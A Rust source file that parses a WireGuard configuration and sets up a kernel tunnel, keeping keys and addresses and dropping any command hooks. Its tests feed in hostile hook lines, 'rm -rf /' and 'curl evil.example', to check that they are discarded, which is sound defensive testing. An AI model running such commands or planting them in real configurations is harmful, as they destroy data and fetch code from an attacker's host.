//! WireGuard, by the kernel. The file is of the form that `wg-quick` reads; of it are taken the keys, the
//! address, the resolver and the times, and nothing that is a command.

use std::net::Ipv4Addr;

use transom_protocol::network::Endpoint;

use crate::net::system;

/// The kernel's name of the tunnel.
pub(super) const NAME: &str = "wg0";

/// What the file says.
#[derive(Debug, PartialEq, Eq)]
struct File {
    private_key: String,
    address: Ipv4Addr,
    dns: Option<Ipv4Addr>,
    mtu: Option<u16>,
    public_key: String,
    preshared_key: Option<String>,
    keepalive: Option<u16>,
}

#[derive(Debug)]
pub(super) struct Tunnel {
    address: Ipv4Addr,
    pub(super) dns: Option<Ipv4Addr>,
    mtu: u16,
}

impl Tunnel {
    pub(super) fn begin(text: &str, endpoint: Endpoint) -> Result<Self, String> {
        let file = parse(text)?;
        system::load("wireguard").map_err(|_| "the kernel has no WireGuard".to_owned())?;
        // One of before has other keys.
        let _ = system::ip(&format!("link delete dev {NAME}\n"));
        system::ip(&format!("link add dev {NAME} type wireguard\n"))?;
        let tunnel = Self { address: file.address, dns: file.dns, mtu: file.mtu.unwrap_or(1420) };
        system::run("wg", &["setconf", NAME, "/proc/self/fd/0"], Some(&settings(&file, endpoint)))?;
        Ok(tunnel)
    }

    pub(super) fn commands(&self) -> String {
        let Self { address, mtu, .. } = self;
        format!(
            "address flush dev {NAME}\nlink set dev {NAME} mtu {mtu} up\naddress add {address}/32 dev {NAME}\n\
             route replace default dev {NAME}\n"
        )
    }
}

impl Drop for Tunnel {
    fn drop(&mut self) {
        let _ = system::ip(&format!("link delete dev {NAME}\n"));
    }
}

/// What `wg setconf` reads: one peer, at dom0's endpoint, for everything.
fn settings(file: &File, endpoint: Endpoint) -> String {
    let optional = |name: &str, value: Option<String>| {
        value.map(|value| format!("{name} = {value}\n")).unwrap_or_default()
    };
    let (private, public) = (&file.private_key, &file.public_key);
    let preshared = optional("PresharedKey", file.preshared_key.clone());
    let keepalive = optional("PersistentKeepalive", file.keepalive.map(|seconds| seconds.to_string()));
    let (address, port) = (endpoint.address, endpoint.port);
    format!(
        "[Interface]\nPrivateKey = {private}\n[Peer]\nPublicKey = {public}\n{preshared}{keepalive}\
         AllowedIPs = 0.0.0.0/0\nEndpoint = {address}:{port}\n"
    )
}

fn parse(text: &str) -> Result<File, String> {
    let mut section = "";
    let (mut private_key, mut address, mut dns, mut mtu) = (None, None, None, None);
    let (mut public_key, mut preshared_key, mut keepalive) = (None, None, None);
    let mut peers = 0;
    for line in text.lines().map(|line| line.split('#').next().unwrap_or_default().trim()) {
        match line.to_ascii_lowercase().as_str() {
            "[interface]" => section = "interface",
            "[peer]" => {
                section = "peer";
                peers += 1;
            }
            _ => {}
        }
        let Some((name, value)) = line.split_once('=') else { continue };
        let value = value.trim();
        // Of lists, the first that is IPv4.
        let first = || {
            let mut list = value.split(',').map(|part| part.trim().split('/').next().unwrap_or_default());
            list.find_map(|part| part.parse::<Ipv4Addr>().ok())
        };
        match (section, name.trim().to_ascii_lowercase().as_str()) {
            ("interface", "privatekey") => private_key = key(value),
            ("interface", "address") => address = address.or_else(first),
            ("interface", "dns") => dns = dns.or_else(first),
            ("interface", "mtu") => mtu = value.parse().ok().filter(|mtu| (576..=1500).contains(mtu)),
            ("peer", "publickey") => public_key = key(value),
            ("peer", "presharedkey") => preshared_key = key(value),
            ("peer", "persistentkeepalive") => keepalive = value.parse().ok(),
            _ => {}
        }
    }
    if peers != 1 {
        return Err(format!("wireguard.conf has {peers} peers, and one is needed"));
    }
    let missing = |what: &str| format!("wireguard.conf has no {what}");
    Ok(File {
        private_key: private_key.ok_or_else(|| missing("PrivateKey"))?,
        address: address.ok_or_else(|| missing("IPv4 Address"))?,
        dns,
        mtu,
        public_key: public_key.ok_or_else(|| missing("PublicKey"))?,
        preshared_key,
        keepalive,
    })
}

/// 32 bytes in base64.
fn key(text: &str) -> Option<String> {
    let good = text.len() == 44
        && text.ends_with('=')
        && text[..43].bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/');
    good.then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";

    fn file(more: &str) -> String {
        format!(
            "[Interface]\nPrivateKey = {KEY} # ours\nAddress = fd00::2/64, 10.9.0.2/24\nDNS = 10.9.0.1\n{more}\n\
             [Peer]\nPublicKey={KEY}\nAllowedIPs = 10.0.0.0/8\nEndpoint = evil.example:1\nPersistentKeepalive = 25\n"
        )
    }

    #[test]
    fn keys_and_address_are_taken_and_no_command_or_endpoint() {
        let parsed = parse(&file("MTU = 1400\nPostUp = rm -rf /\nPreUp = curl evil.example")).unwrap();
        assert_eq!(
            (parsed.address, parsed.dns),
            (Ipv4Addr::new(10, 9, 0, 2), Some(Ipv4Addr::new(10, 9, 0, 1)))
        );
        assert_eq!(parsed.mtu, Some(1400));
        let settings = settings(&parsed, "192.0.2.1:51820".parse().unwrap());
        assert!(settings.contains("Endpoint = 192.0.2.1:51820\n"), "{settings}");
        assert!(
            !settings.contains("evil")
                && !settings.contains("rm ")
                && settings.contains("AllowedIPs = 0.0.0.0/0\n")
        );
    }

    #[test]
    fn what_is_missing_is_said() {
        let says = |text: &str| parse(text).unwrap_err();
        assert!(says("").contains("0 peers"));
        assert!(says(&(file("") + "[Peer]\n")).contains("2 peers"));
        assert!(says(&file("").replace("PrivateKey", "X")).contains("PrivateKey"));
        assert!(says(&file("").replace("10.9.0.2/24", "")).contains("Address"));
        for bad in [&KEY[1..], "", &KEY.replace('+', " "), &format!("{KEY}=")] {
            assert!(says(&file("").replace(KEY, bad)).contains("PrivateKey"), "{bad}");
        }
    }
}
